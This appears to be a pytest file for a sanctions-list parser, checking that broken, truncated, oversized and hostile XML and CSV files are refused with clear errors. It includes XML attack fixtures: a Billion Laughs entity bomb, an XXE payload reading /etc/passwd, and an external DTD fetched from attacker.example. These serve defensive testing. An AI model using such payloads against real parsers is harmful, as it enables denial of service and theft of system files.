"""Hostile, broken and oversized list files: refused with a clear error, never half-read."""

from __future__ import annotations

import resource
from pathlib import Path

import pytest

from bastion.errors import (
    SanctionsListInvalid,
    SanctionsListNotFound,
    SanctionsListTooLarge,
    SanctionsListUnsupported,
)
from bastion.finance.lists import byte_ranges
from bastion.finance.lists.read import detect_format, open_list
from bastion.finance.lists.records import ListEntity
from bastion.finance.lists.xml_stream import Limits

from .test_ofac_advanced import write_advanced
from .test_un import UN_XML


def _un_record(number: int) -> str:
    return (
        f"<INDIVIDUAL><DATAID>{number}</DATAID><FIRST_NAME>NAME{number}</FIRST_NAME>"
        f"<UN_LIST_TYPE>Al-Qaida</UN_LIST_TYPE><REFERENCE_NUMBER>QDi.{number}</REFERENCE_NUMBER>"
        "</INDIVIDUAL>\n"
    )


def _write(tmp_path: Path, text: str, name: str = "list.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_malformed_xml_reports_line_and_column(tmp_path: Path) -> None:
    text = '<CONSOLIDATED_LIST dateGenerated="2026-11-29">\n<INDIVIDUALS>\n' + _un_record(1)
    text += "<INDIVIDUAL><DATAID>2</DATA>\n</INDIVIDUALS></CONSOLIDATED_LIST>"
    reader = open_list(_write(tmp_path, text))

    seen: list[ListEntity] = []
    with pytest.raises(SanctionsListInvalid) as caught:
        seen.extend(reader)

    assert [e.external_id for e in seen] == ["QDi.1"]
    assert caught.value.context["line"] == 4 and caught.value.context["column"] > 0
    assert "line 4, column" in caught.value.detail


def test_truncated_file_names_the_position_and_keeps_what_came_before(tmp_path: Path) -> None:
    cut = UN_XML.index("<INDIVIDUAL><DATAID>6908556") + 40
    reader = open_list(_write(tmp_path, UN_XML[:cut]))

    seen: list[ListEntity] = []
    with pytest.raises(SanctionsListInvalid) as caught:
        seen.extend(reader)

    assert [e.external_id for e in seen] == ["QDi.001"]
    assert "truncated" in caught.value.detail and "INDIVIDUAL" in caught.value.detail
    assert caught.value.context["line"] > 1 and caught.value.context["record"] == 2


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL><DATAID>1</DATAID>
<FIRST_NAME>&lol9;</FIRST_NAME><REFERENCE_NUMBER>QDi.1</REFERENCE_NUMBER></INDIVIDUAL>
</INDIVIDUALS></CONSOLIDATED_LIST>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE sdnList [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<sdnList><sdnEntry><uid>1</uid><lastName>&secret;</lastName></sdnEntry></sdnList>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE sdnList SYSTEM "http://attacker.example/evil.dtd">
<sdnList><sdnEntry><uid>1</uid><lastName>X</lastName></sdnEntry></sdnList>
"""


@pytest.mark.parametrize(
    ("text", "words"),
    [(BILLION_LAUGHS, "entity"), (XXE, "external entity"), (EXTERNAL_DTD, "external DTD")],
)
def test_entity_attacks_are_refused_before_anything_is_expanded(
    tmp_path: Path, text: str, words: str
) -> None:
    path = _write(tmp_path, text)

    with pytest.raises(SanctionsListInvalid) as caught:
        list(open_list(path))

    assert words in caught.value.detail and "refused" in caught.value.detail
    assert "root:" not in caught.value.detail  # nothing of /etc/passwd


@pytest.mark.parametrize(
    ("encoding", "lead"), [("utf-16", ""), ("utf-16-le", "  "), ("utf-16-be", " ")]
)
def test_utf16_file_with_entities_is_refused_too(tmp_path: Path, encoding: str, lead: str) -> None:
    path = tmp_path / "list.xml"
    path.write_bytes((lead + XXE.replace('<?xml version="1.0"?>', "")).encode(encoding))

    with pytest.raises(SanctionsListInvalid, match="external entity"):
        list(open_list(path, format="ofac_sdn_xml"))


def test_utf16_list_reads(tmp_path: Path) -> None:
    path = tmp_path / "list.xml"
    path.write_bytes(UN_XML.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))

    assert [e.external_id for e in open_list(path)] == ["QDi.001", "KPi.077", "QDe.005"]


def test_a_file_that_is_no_list_is_unsupported(tmp_path: Path) -> None:
    rss = _write(tmp_path, '<?xml version="1.0"?><rss version="2.0"><channel/></rss>')
    text = _write(tmp_path, "name,wallet\nAlice,1Abc\n", "people.csv")

    with pytest.raises(SanctionsListUnsupported, match="<rss>"):
        open_list(rss)
    with pytest.raises(SanctionsListUnsupported):
        open_list(text)
    with pytest.raises(SanctionsListUnsupported, match=r"sdn\.csv"):
        detect_format(b'7001,11,"aka","X","-0-"\r\n', "alt.csv")


def test_empty_and_missing_files(tmp_path: Path) -> None:
    with pytest.raises(SanctionsListInvalid, match="empty"):
        open_list(_write(tmp_path, ""))
    with pytest.raises(SanctionsListNotFound):
        open_list(tmp_path / "nowhere.xml")


def test_oversize_record_and_file_are_too_large(tmp_path: Path) -> None:
    huge = UN_XML.replace("Review pursuant", "x" * 300_000)
    path = _write(tmp_path, huge)
    with pytest.raises(SanctionsListTooLarge) as caught:
        list(open_list(path, limits=Limits(max_record_bytes=100_000)))
    assert caught.value.context["record"] == 1

    many = "<INDIVIDUAL><DATAID>1</DATAID>" + "<NATIONALITY/>" * 50 + "</INDIVIDUAL>"
    crowded = _write(
        tmp_path,
        f"<CONSOLIDATED_LIST><INDIVIDUALS>{many}</INDIVIDUALS></CONSOLIDATED_LIST>",
        "c.xml",
    )
    with pytest.raises(SanctionsListTooLarge, match="elements"):
        list(open_list(crowded, limits=Limits(max_record_elements=20)))

    with pytest.raises(SanctionsListTooLarge):
        open_list(path, max_bytes=1000)


def test_csv_with_a_ragged_row_names_the_record(tmp_path: Path) -> None:
    rows = [
        '7001,"ONE","-0- ","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ',
        '7002,"TWO","-0- ","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ',
    ]
    path = _write(tmp_path, "\r\n".join(rows) + "\r\n", "sdn.csv")

    seen: list[ListEntity] = []
    with pytest.raises(SanctionsListInvalid) as caught:
        seen.extend(open_list(path))

    assert [e.external_id for e in seen] == ["7001"]
    assert caught.value.context["record"] == 2 and "9 fields" in caught.value.detail


def test_csv_in_utf16_is_refused(tmp_path: Path) -> None:
    row = '7001,"ONE","-0- ","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- \r\n'
    path = tmp_path / "sdn.csv"
    path.write_bytes(row.encode("utf-16-le"))

    with pytest.raises(SanctionsListInvalid, match="NUL"):
        list(open_list(path, format="ofac_sdn_csv"))


@pytest.mark.slow
def test_a_200_mb_list_is_read_with_flat_memory(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    block = "".join(_un_record(n) for n in range(1000)).encode()
    with path.open("wb") as out:
        out.write(b'<CONSOLIDATED_LIST dateGenerated="2026-11-29"><INDIVIDUALS>\n')
        for _ in range(200 * 1024 * 1024 // len(block) + 1):
            out.write(block)
        out.write(b"</INDIVIDUALS></CONSOLIDATED_LIST>\n")
    assert path.stat().st_size > 200 * 1024 * 1024
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux

    count = sum(1 for _ in open_list(path))

    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert count > 1_000_000
    assert grown_mib < 100


# --- OFAC advanced XML: the byte-range fast path still reports the real file's positions -------


def _ofac_lines(tmp_path: Path, parties: int = 6) -> str:
    """The OFAC sample with one party per line, so a damaged party has a known line."""
    text = write_advanced(tmp_path / "sample.xml").read_text(encoding="utf-8")
    extra = "".join(
        f'\n<DistinctParty FixedRef="9{n}"><Profile ID="9{n}" PartySubTypeID="4">'
        f'<Identity ID="9{n}"></Identity></Profile></DistinctParty>'
        for n in range(parties)
    )
    return text.replace("</DistinctParties>", extra + "\n</DistinctParties>")


@pytest.mark.parametrize("batch_bytes", [1, 1_000_000])
def test_error_inside_distinct_parties_reports_the_true_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, batch_bytes: int
) -> None:
    monkeypatch.setattr(byte_ranges, "BATCH_BYTES", batch_bytes)
    text = _ofac_lines(tmp_path)
    broken = text.replace('<Identity ID="93"></Identity>', '<Identity ID="93"></Identiti>')
    line = broken[: broken.index("</Identiti>")].count("\n") + 1
    path = _write(tmp_path, broken)

    seen: list[ListEntity] = []
    with pytest.raises(SanctionsListInvalid) as caught:
        seen.extend(open_list(path))

    assert caught.value.context["line"] == line and f"line {line}, column" in caught.value.detail
    # Every party before the damaged one was read once, none twice.
    assert [e.external_id for e in seen] == ["36001", "36002", "36003", "90", "91", "92"]


def test_error_after_distinct_parties_reports_the_true_line(tmp_path: Path) -> None:
    text = _ofac_lines(tmp_path).replace(
        '<SanctionsEntry ProfileID="36002">', '\n\n<SanctionsEntry ProfileID="36002" x="1" x="2">'
    )
    line = text[: text.index('x="2"')].count("\n") + 1

    with pytest.raises(SanctionsListInvalid) as caught:
        list(open_list(_write(tmp_path, text)))

    assert caught.value.context["line"] == line


def test_truncated_ofac_file_names_the_position(tmp_path: Path) -> None:
    text = _ofac_lines(tmp_path)
    for cut in (text.index('<DistinctParty FixedRef="93"') + 30, text.index("<SanctionsEntries>")):
        path = _write(tmp_path, text[:cut])
        with pytest.raises(SanctionsListInvalid) as caught:
            list(open_list(path))
        assert "truncated" in caught.value.detail
        assert caught.value.context["line"] == text[:cut].count("\n") + 1


def test_ofac_record_limits_hold_on_the_fast_path(tmp_path: Path) -> None:
    text = _ofac_lines(tmp_path)
    path = _write(tmp_path, text.replace("note 36002", "x" * 50_000))
    assert byte_ranges.find_section(path, "DistinctParties") is not None
    with pytest.raises(SanctionsListTooLarge) as caught:
        list(open_list(path, limits=Limits(max_record_bytes=40_000)))
    assert caught.value.context["record"] == 2

    crowded = text.replace('<Identity ID="92"></Identity>', '<Identity ID="92"/>' + "<X/>" * 300)
    with pytest.raises(SanctionsListTooLarge, match="elements") as caught:
        list(open_list(_write(tmp_path, crowded), limits=Limits(max_record_elements=200)))
    assert caught.value.context["record"] == 6
